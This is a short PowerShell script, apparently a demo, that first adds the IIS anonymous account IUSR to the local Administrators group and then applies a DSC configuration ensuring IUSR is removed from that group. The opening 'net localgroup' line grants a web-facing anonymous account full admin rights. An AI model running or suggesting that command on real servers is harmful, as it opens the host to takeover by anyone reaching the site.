net localgroup Administrators IUSR /add
configuration WebHost {
    Import-DscResource -ModuleName ContosoWeb
    Node localhost {
        cAdmin one {
            Account = 'NT AUTHORITY\IUSR'
            Ensure = 'Absent'
        }
    }
}
WebHost -OutputPath C:\dsc
Start-DscConfiguration -Path C:\dsc -Wait
